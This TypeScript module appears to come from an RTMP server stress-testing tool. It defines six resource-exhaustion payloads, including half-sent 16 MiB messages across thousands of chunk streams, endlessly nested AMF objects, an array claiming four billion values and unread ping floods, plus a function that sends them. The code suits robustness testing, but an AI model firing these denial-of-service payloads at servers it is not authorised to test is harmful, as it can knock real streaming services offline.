import { amf0All } from './craft/amf0.ts'
import { basicHeader, MESSAGE, messageHeader, setChunkSize } from './craft/chunk.ts'
import { pingRequest } from './ping.ts'
import type { RawClient } from './raw-client.ts'
import { connectObject } from './raw-session.ts'

/** A way to make a server keep more and more. Yields blocks until it runs out of ideas. */
export interface Bomb {
  readonly name: string
  /** Sessions that do it at the same time. */
  readonly sessions: number
  /** Whether the client stops reading. */
  readonly deaf?: boolean
  blocks(): Generator<Buffer>
}

const CHUNK = 64 * 1024
const LONGEST = 0xffffff
const FIRST_CSID = 3
const LAST_CSID = 65_599

/** Begins a message of 16 MiB on a chunk stream, and sends `size` bytes of it. */
function begin(csid: number, type: number, size: number): Buffer {
  const header = messageHeader(0, { timestamp: 0, type, stream: 1 }, LONGEST)
  return Buffer.concat([basicHeader(0, csid), header, Buffer.alloc(size, 0x05)])
}

export const bombs: readonly Bomb[] = [
  {
    name: 'a message of 16 MiB begun on each of 65,597 chunk streams',
    sessions: 2,
    *blocks() {
      yield setChunkSize(128)
      for (let csid = FIRST_CSID; csid <= LAST_CSID; csid += 500) {
        const some = Array.from({ length: 500 }, (_, i) => begin(csid + i, MESSAGE.video, 128))
        yield Buffer.concat(some)
      }
    },
  },
  {
    name: 'messages of 16 MiB, never finished, on 64 chunk streams',
    sessions: 4,
    *blocks() {
      yield setChunkSize(CHUNK)
      for (let round = 0; round < 250; round++) {
        for (let csid = FIRST_CSID; csid < FIRST_CSID + 64; csid++) {
          if (round === 0) yield begin(csid, MESSAGE.video, CHUNK)
          else yield Buffer.concat([basicHeader(3, csid), Buffer.alloc(CHUNK, 0x05)])
        }
      }
    },
  },
  {
    name: 'commands of 16 MiB, one after the other',
    sessions: 4,
    *blocks() {
      yield setChunkSize(LONGEST)
      for (let count = 0; count < 8; count++) {
        yield begin(FIRST_CSID, MESSAGE.command, 0)
        for (let sent = 0; sent < LONGEST; sent += CHUNK) {
          yield Buffer.alloc(Math.min(CHUNK, LONGEST - sent), 0x05)
        }
      }
    },
  },
  {
    name: 'AMF objects nested without end',
    sessions: 4,
    *blocks() {
      yield setChunkSize(LONGEST)
      const head = amf0All('connect', 1)
      yield Buffer.concat([begin(FIRST_CSID, MESSAGE.command, 0), head])
      const level = Buffer.alloc(CHUNK, Buffer.from('03000161', 'hex'))
      for (let sent = head.length; sent < LONGEST; sent += CHUNK) {
        yield level.subarray(0, Math.min(CHUNK, LONGEST - sent))
      }
    },
  },
  {
    name: 'a strict array of 4,294,967,295 values',
    sessions: 16,
    *blocks() {
      const body = Buffer.concat([amf0All('connect', 1), Buffer.from('0affffffff', 'hex')])
      const header = messageHeader(
        0,
        { timestamp: 0, type: MESSAGE.command, stream: 0 },
        body.length,
      )
      yield Buffer.concat([basicHeader(0, FIRST_CSID), header, body])
    },
  },
  {
    name: 'pings whose answers are not read',
    sessions: 2,
    deaf: true,
    *blocks() {
      const many = Buffer.concat(Array.from({ length: 3_000 }, (_, i) => pingRequest(i)))
      for (let count = 0; count < 800; count++) yield many
    },
  },
]

/** Sends until the bomb is used up, the server closes, or takes nothing more for `stallMs`. */
export async function throwBomb(
  bomb: Bomb,
  client: RawClient,
  url: string,
  stallMs: number,
): Promise<void> {
  if (!(await client.handshake())) return
  if (bomb.deaf) {
    await client.answer(await client.command('connect', [connectObject(url)]))
    client.pause()
  }
  for (const block of bomb.blocks()) {
    if (!(await client.send(block, stallMs))) return
  }
}
